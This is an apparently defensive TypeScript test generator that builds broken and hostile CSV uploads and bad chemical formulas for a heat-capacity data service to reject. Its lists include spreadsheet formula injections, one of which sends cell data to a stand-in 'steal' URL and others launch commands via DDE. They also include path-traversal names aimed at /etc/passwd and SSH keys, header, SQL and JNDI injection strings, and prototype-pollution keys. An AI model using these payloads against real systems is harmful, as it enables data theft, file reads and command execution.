import { createSeededRandom, type SeededRandom } from "@shared/numerics/seeded-random";

/*
 * A seeded generator of malformed and hostile run uploads (and of formulas that are not formulas, for
 * sample creation). Every case is one a server must refuse: the file itself (or its mapping) is broken,
 * so neither preview nor commit may store anything. The same seed gives the same bytes.
 *
 * The well-formed base file the damage starts from is a synthetic copper-like export (invented for
 * these tests; no measurement), comma-delimited with a short preamble.
 */

/** One upload of the corpus. */
export interface UploadCase {
  /** Unique, stable name: family and index, e.g. "binary-17". */
  id: string;
  family: UploadFamily;
  /** The file name the multipart part carries (sometimes hostile itself). */
  fileName: string;
  bytes: Buffer;
  /** The `mapping` field as sent (JSON text, sometimes hostile); undefined sends none. */
  mapping: string | undefined;
  /** What was done to the file, for failure messages. */
  note: string;
}

export type UploadFamily =
  | "truncated"
  | "binary"
  | "huge-line"
  | "million-columns"
  | "lying-bom"
  | "utf16"
  | "non-finite"
  | "csv-injection"
  | "path-name"
  | "hostile-mapping"
  | "structure";

/** One sample-creation body whose formula is not a chemical formula. */
export interface FormulaCase {
  id: string;
  formula: unknown;
  note: string;
}

export const BASE_COLUMNS = { temperature: "Temperature (K)", heatCapacity: "Heat capacity (J/K)", sigma: "Uncertainty (J/K)" } as const;

/** The mapping that reads the base file correctly (so a refusal is the damage's doing). */
export const BASE_MAPPING = { columns: { ...BASE_COLUMNS }, units: { temperature: "K", heatCapacity: "J/K" } } as const;
const MAPPING = JSON.stringify(BASE_MAPPING);

interface BaseFile {
  preamble: string[];
  header: string;
  rows: string[][];
}

/** A well-formed export of `n` rows: T from 2 K up, total Cp of a 10 mg copper-like piece in J/K. */
function baseFile(rand: SeededRandom, n: number): BaseFile {
  const moles = 10e-3 / 63.546;
  const rows: string[][] = [];
  for (let i = 0; i < n; i++) {
    const t = 2 + i * (28 / Math.max(1, n - 1)) + 0.01 * rand.uniform();
    const c = (0.000695 * t + 4.8e-5 * t ** 3) * moles * (1 + 0.003 * rand.normal());
    rows.push([t.toFixed(4), c.toExponential(6), (c * 0.005).toExponential(3)]);
  }
  return {
    preamble: ["# SYNTHETIC DATA: invented for Thetafold tests, not a measurement", "Sample mass (mg),10.000"],
    header: [BASE_COLUMNS.temperature, BASE_COLUMNS.heatCapacity, BASE_COLUMNS.sigma].join(","),
    rows,
  };
}

function render(f: BaseFile, delimiter = ",", eol = "\n"): string {
  return [...f.preamble, f.header.split(",").join(delimiter), ...f.rows.map((r) => r.join(delimiter))].join(eol) + eol;
}

const utf8 = (s: string) => Buffer.from(s, "utf8");

function utf16le(s: string, bom = true): Buffer {
  const body = Buffer.from(s, "utf16le");
  return bom ? Buffer.concat([Buffer.from([0xff, 0xfe]), body]) : body;
}

function utf16be(s: string, bom = true): Buffer {
  const le = Buffer.from(s, "utf16le");
  const be = Buffer.alloc(le.length);
  for (let i = 0; i + 1 < le.length; i += 2) {
    be[i] = le[i + 1];
    be[i + 1] = le[i];
  }
  return bom ? Buffer.concat([Buffer.from([0xfe, 0xff]), be]) : be;
}

function utf32le(s: string): Buffer {
  const cps = [...s].map((ch) => ch.codePointAt(0)!);
  const out = Buffer.alloc(4 + cps.length * 4);
  out.writeUInt32LE(0x0000feff, 0);
  cps.forEach((cp, i) => out.writeUInt32LE(cp, 4 + i * 4));
  return out;
}

const pick = <T>(rand: SeededRandom, list: readonly T[]): T => list[Math.floor(rand.uniform() * list.length)];
const int = (rand: SeededRandom, lo: number, hi: number) => lo + Math.floor(rand.uniform() * (hi - lo + 1));

// Cells that are not finite numbers, as exports, spreadsheets and scripts write them.
const NON_FINITE = [
  "NaN", "nan", "NAN", "-nan", "Infinity", "-Infinity", "+Infinity", "inf", "-inf", "INF", "1e309", "-1e309", "1e999",
  "2e308", "-1.8e308", "∞", "-∞", "1.#INF", "-1.#IND", "1.#QNAN", "#N/A", "#DIV/0!", "#NUM!", "#VALUE!", "NULL", "None",
  "undefined", "null", "0x1A", "1_000", "1e", "e5", "--1", "1..2", "1.2.3", "٣٫٤", "１２", "0b101", "1/0", "Inf",
];

// Cells a spreadsheet would run as formulas (OWASP, "CSV Injection"); none is a number.
const INJECTIONS = [
  '=HYPERLINK("http://example.invalid/steal?x="&A1,"click")',
  "=HYPERLINK(\"http://example.invalid\")",
  "=cmd|' /C calc'!A0",
  "=1+2",
  "=SUM(A1:A9)",
  "+1+1",
  "-1+1",
  "+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=IMPORTXML(CONCAT(\"http://example.invalid/?\",A1),\"//a\")",
  "=WEBSERVICE(\"http://example.invalid\")",
  "\t=1+1",
  "=DDE(\"cmd\";\"/C calc\";\"x\")",
  '"=2*3"',
  "=A1",
  "-2+3+cmd|' /C calc'!A0",
  "@A1",
  "=0x10",
];

// File names that try to leave the upload folder or break headers.
const PATH_NAMES = [
  "../../etc/passwd", "../../../../../../etc/shadow", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\System32\\drivers\\etc\\hosts",
  "....//....//etc/hosts", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc", "files/../../thetafold.db", "./../thetafold.db",
  "evil\u0000.csv", "run.csv\r\nSet-Cookie: auth_session=stolen", "run\u202ecsv.exe", "CON", "aux.csv", ".", "..", "   ", "",
  "~/.ssh/authorized_keys", "\\\\server\\share\\x.csv", "a/b/c/d/e/f/g/h.csv", `${"x".repeat(1000)}.csv`, "naïve µJ 💥.csv",
  "data/files/.tmp/x", "<script>alert(1)</script>.csv", "'; DROP TABLE runs; --.csv", "${jndi:ldap://example.invalid/a}.csv",
];

// Formulas that are not formulas: unknown elements, broken syntax, numbers and injections.
const NOT_FORMULAS: unknown[] = [
  // Not here because they are formulas after all: "CU" (carbon + uranium), "NaN" (sodium nitride), "H".
  "Xx2", "Qq", "cu", "Cu)", "(Cu", "Cu((O2)", "Cu2O)3", "H2O]", "[Fe", "Cu-1", "Cu0.5.5", "1e309Cu", "Cu1e309", "Infinity",
  "=HYPERLINK(\"http://example.invalid\")", "=1+1", "+Cu", "@Cu", "../../etc/passwd", "<script>", "Cu\u0000", "🔥", "Ξ",
  "   ", "", "Uuo99999999999999999999",
  // Parses, but 1e23 atoms per formula unit is far beyond the bounds the schema sets for an override (1e4).
  "Cu99999999999999999999999",
  "Zz", "Cu{2}", "Cu^2", "Cu*", "Cu/O", "Cu,Zn", "Cu;Zn",
  "Cu Zn Xq", "1234", "0", "-Cu", "Cu-", "C".repeat(500), "'; DROP TABLE samples; --", "${jndi:ldap://x}", "\u202eCu", 42, null, true,
  ["Cu"], { formula: "Cu" }, "Cu".repeat(80),
];

type Damage = (rand: SeededRandom, i: number) => { bytes: Buffer; note: string; mapping?: string; fileName?: string };

/** Replaces `k` random cells of the two required columns with values from `list`. */
function spoilCells(rand: SeededRandom, list: readonly string[], how: string): ReturnType<Damage> {
  const f = baseFile(rand, int(rand, 12, 60));
  const k = int(rand, 1, 3);
  const hits: string[] = [];
  for (let j = 0; j < k; j++) {
    const r = int(rand, 0, f.rows.length - 1);
    const c = int(rand, 0, 1);
    const value = pick(rand, list);
    f.rows[r][c] = value;
    hits.push(`row ${r} col ${c} = ${JSON.stringify(value)}`);
  }
  // Cells with commas, quotes or tabs of their own are quoted the CSV way (RFC 4180), else the row is ragged.
  const quoted: BaseFile = { ...f, rows: f.rows.map((row) => row.map((v) => (/[",\t]/.test(v) && !/^".*"$/.test(v) ? `"${v.replace(/"/g, '""')}"` : v))) };
  return { bytes: utf8(render(quoted)), note: `${how}: ${hits.join("; ")}` };
}

const FAMILIES: [UploadFamily, number, Damage][] = [
  [
    "truncated",
    120,
    (rand, i) => {
      const text = render(baseFile(rand, 30));
      const bytes = utf8(text);
      const headerEnd = bytes.indexOf(utf8(`${BASE_COLUMNS.sigma}\n`)) + BASE_COLUMNS.sigma.length + 1;
      if (i % 2 === 0) {
        // Cut somewhere in the preamble or the header: no data row survives.
        const at = int(rand, 0, headerEnd - 1);
        return { bytes: bytes.subarray(0, at), note: `cut at byte ${at} of ${bytes.length}, before the first data row` };
      }
      // Cut inside a data row, before its last delimiter, so the last row is short of columns.
      const lines = text.split("\n");
      const row = int(rand, 5, lines.length - 2);
      const start = lines.slice(0, row).join("\n").length + 1;
      const lastComma = lines[row].lastIndexOf(",");
      const at = start + int(rand, 1, Math.max(1, lastComma - 1));
      return { bytes: bytes.subarray(0, at), note: `cut at byte ${at} inside line ${row + 1}, before its last delimiter` };
    },
  ],
  [
    "binary",
    120,
    (rand, i) => {
      const magic = [
        Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
        Buffer.from("PK\u0003\u0004", "latin1"),
        Buffer.from("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n", "latin1"),
        Buffer.from([0x1f, 0x8b, 0x08, 0x00]),
        Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01]),
        Buffer.from("SQLite format 3\u0000", "latin1"),
        Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
        Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
        Buffer.alloc(0),
      ][i % 9];
      const n = int(rand, 1, i % 10 === 0 ? 65536 : 2048);
      const body = Buffer.alloc(n);
      for (let j = 0; j < n; j++) body[j] = Math.floor(rand.uniform() * 256);
      return { bytes: Buffer.concat([magic, body]), note: `${magic.length}-byte magic + ${n} random bytes` };
    },
  ],
  [
    "huge-line",
    12,
    (rand, i) => {
      const size = int(rand, 1, 3) * 1024 * 1024;
      if (i % 3 === 0) return { bytes: utf8("7".repeat(size)), note: `one ${size}-byte line of digits, no line break` };
      if (i % 3 === 1) {
        const f = baseFile(rand, 20);
        f.rows[10][1] = "9".repeat(size);
        return { bytes: utf8(render(f)), note: `a ${size}-digit heat capacity cell (overflows to Infinity)` };
      }
      const f = baseFile(rand, 20);
      f.rows[7] = [f.rows[7][0], f.rows[7][1], f.rows[7][2], "x".repeat(size)];
      return { bytes: utf8(render(f)), note: `a data row with a fourth ${size}-byte text cell` };
    },
  ],
  [
    "million-columns",
    2,
    (rand, i) => {
      const cols = 1_000_000;
      if (i === 0) {
        const row = Array.from({ length: cols }, (_, j) => (j % 10).toString()).join(",");
        return { bytes: utf8(`${row}\n${row}\n${row}\n`), note: "three rows of a million one-digit columns, no names" };
      }
      const header = Array.from({ length: cols }, (_, j) => `c${j}`).join(",");
      return { bytes: utf8(`${header}\n`), note: "a header of a million names and no data" };
    },
  ],
  [
    "lying-bom",
    100,
    (rand, i) => {
      const text = render(baseFile(rand, int(rand, 12, 40)));
      switch (i % 5) {
        case 0:
          return { bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), utf8(text)]), note: "UTF-16LE byte-order mark over UTF-8 text" };
        case 1:
          return { bytes: Buffer.concat([Buffer.from([0xfe, 0xff]), utf8(text)]), note: "UTF-16BE byte-order mark over UTF-8 text" };
        case 2:
          return { bytes: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf16le(text, false)]), note: "UTF-8 byte-order mark over UTF-16LE text" };
        case 3:
          return { bytes: utf32le(text), note: "UTF-32LE (its mark reads as UTF-16LE followed by NULs)" };
        default:
          return { bytes: utf16le(text, false), note: "UTF-16LE without a byte-order mark (NUL bytes)" };
      }
    },
  ],
  [
    "utf16",
    80,
    (rand, i) => {
      const spoiled = spoilCells(rand, i % 2 === 0 ? NON_FINITE : INJECTIONS, "UTF-16 with a correct mark, bad cells");
      const text = spoiled.bytes.toString("utf8");
      return { bytes: i % 4 < 2 ? utf16le(text) : utf16be(text), note: `${i % 4 < 2 ? "UTF-16LE" : "UTF-16BE"}: ${spoiled.note}` };
    },
  ],
  ["non-finite", 150, (rand) => spoilCells(rand, NON_FINITE, "non-finite cells")],
  ["csv-injection", 150, (rand) => spoilCells(rand, INJECTIONS, "formula cells in numeric columns")],
  [
    "path-name",
    120,
    (rand, i) => {
      const inner = i % 3 === 0 ? spoilCells(rand, NON_FINITE, "non-finite") : i % 3 === 1 ? spoilCells(rand, INJECTIONS, "injection") : { bytes: Buffer.alloc(0), note: "empty file" };
      const name = PATH_NAMES[i % PATH_NAMES.length];
      return { ...inner, fileName: name, note: `file name ${JSON.stringify(name.slice(0, 60))}; ${inner.note}` };
    },
  ],
  [
    "hostile-mapping",
    80,
    (rand, i) => {
      const bytes = utf8(render(baseFile(rand, 20)));
      const missing = { ...BASE_MAPPING, columns: { ...BASE_MAPPING.columns, temperature: "Temperatur (K)" } };
      const variants: [string, string][] = [
        ["{", "not JSON"],
        ["null", "JSON null"],
        ["[]", "an array"],
        ['"mapping"', "a string"],
        ["{}", "an empty object"],
        [JSON.stringify(missing), "a column name the file does not have"],
        [JSON.stringify({ ...BASE_MAPPING, units: { temperature: "furlongs", heatCapacity: "J/K" } }), "an unknown temperature unit"],
        [JSON.stringify({ ...BASE_MAPPING, units: { temperature: "K", heatCapacity: "horsepower" } }), "an unknown heat-capacity unit"],
        [JSON.stringify({ __proto__: { polluted: true }, constructor: { prototype: { polluted: true } } }), "prototype pollution keys"],
        [JSON.stringify({ columns: { temperature: "x".repeat(30_000) }, units: {} }), "over 20,000 characters"],
        [JSON.stringify({ ...BASE_MAPPING, columns: { ...BASE_MAPPING.columns, heatCapacity: BASE_COLUMNS.temperature } }), "one column for two roles"],
        [`${"[".repeat(5000)}${"]".repeat(5000)}`, "5,000 nested arrays"],
        [JSON.stringify({ ...BASE_MAPPING, columns: { ...BASE_MAPPING.columns, field: "Field (T)" }, units: { ...BASE_MAPPING.units, field: "T" } }), "a field column that is not there"],
        [JSON.stringify({ ...BASE_MAPPING, columns: { heatCapacity: BASE_COLUMNS.heatCapacity } }), "no temperature column"],
        ["\u0000", "a NUL"],
        [JSON.stringify({ ...BASE_MAPPING, columns: { ...BASE_MAPPING.columns, temperature: "=HYPERLINK(\"x\")" } }), "a formula as column name"],
      ];
      const [mapping, what] = variants[i % variants.length];
      return { bytes, mapping, note: `mapping: ${what}` };
    },
  ],
  [
    "structure",
    100,
    (rand, i) => {
      const f = baseFile(rand, int(rand, 12, 30));
      const variants: (() => { bytes: Buffer; note: string })[] = [
        () => ({ bytes: Buffer.alloc(0), note: "empty" }),
        () => ({ bytes: utf8(" \t \n  \r\n\t"), note: "whitespace only" }),
        () => ({ bytes: utf8("\n".repeat(int(rand, 1, 50_000))), note: "line breaks only" }),
        () => ({ bytes: utf8(`${f.header}\n`), note: "header only" }),
        () => ({ bytes: utf8(`${f.preamble.join("\n")}\n${f.header}\nK,J/K,J/K\n`), note: "header and units, no data" }),
        () => ({ bytes: utf8(`${f.preamble.join("\n")}\n`), note: "preamble only" }),
        () => {
          f.rows[int(rand, 3, f.rows.length - 2)].pop();
          return { bytes: utf8(render(f)), note: "a ragged row (a cell short)" };
        },
        () => {
          f.rows[int(rand, 3, f.rows.length - 2)].push("1.0", "2.0");
          return { bytes: utf8(render(f)), note: "a ragged row (two cells over)" };
        },
        () => {
          for (const r of f.rows) r[1] = pick(rand, ["high", "low", "n/a", "ok", "—"]);
          return { bytes: utf8(render(f)), note: "words in the whole heat-capacity column" };
        },
        () => {
          f.rows[int(rand, 0, f.rows.length - 1)][0] = pick(rand, ["-4.2", "0", "-0", "0.000", "-273.15"]);
          return { bytes: utf8(render(f)), note: "a zero or negative temperature in K" };
        },
        () => ({ bytes: utf8(",,,\n,,,\n,,,\n".repeat(20)), note: "delimiters only" }),
        () => {
          for (const r of f.rows) r[0] = "";
          return { bytes: utf8(render(f)), note: "an empty temperature column" };
        },
        () => {
          f.rows[int(rand, 0, f.rows.length - 1)][2] = `-${f.rows[0][2]}`;
          return { bytes: utf8(render(f)), note: "a negative uncertainty" };
        },
        () => ({ bytes: utf8(`${f.header}\n${f.rows.map((r) => r.join(i % 2 ? ";" : "\t")).join("\n")}\n`), note: "header with commas, rows with another delimiter" }),
        () => ({ bytes: utf8(render(f).replace(/\n/g, "\u2028")), note: "Unicode line separators instead of line breaks" }),
        () => ({ bytes: utf8(render(f).replace(/[0-9]/g, (d) => String.fromCharCode(0x0660 + Number(d)))), note: "Arabic-Indic digits" }),
      ];
      return variants[i % variants.length]();
    },
  ],
];

/**
 * The bad-upload corpus: about 1,030 cases over eleven families (truncated, binary, huge lines, a million
 * columns, lying byte-order marks, UTF-16 with bad cells, non-finite values, formula cells, path-like
 * file names, hostile mappings, broken structure).
 * @param seed generator seed (the same seed gives the same cases)
 * @returns the cases, each to be refused by preview and commit
 */
export function badUploadCorpus(seed = 20261201): UploadCase[] {
  const rand = createSeededRandom(seed);
  const out: UploadCase[] = [];
  for (const [family, count, damage] of FAMILIES) {
    for (let i = 0; i < count; i++) {
      const d = damage(rand, i);
      out.push({
        id: `${family}-${i}`,
        family,
        fileName: d.fileName ?? `${family}-${i}.csv`,
        bytes: d.bytes,
        mapping: d.mapping ?? MAPPING,
        note: d.note,
      });
    }
  }
  return out;
}

/** Sample-creation bodies whose formula is not a formula (everything else in the body is valid). */
export function badFormulaCases(): FormulaCase[] {
  return NOT_FORMULAS.map((formula, i) => ({ id: `formula-${i}`, formula, note: JSON.stringify(formula)?.slice(0, 60) ?? String(formula) }));
}

/** Formula-leading texts for checking that exports neutralise them. */
export const FORMULA_TEXTS = INJECTIONS;
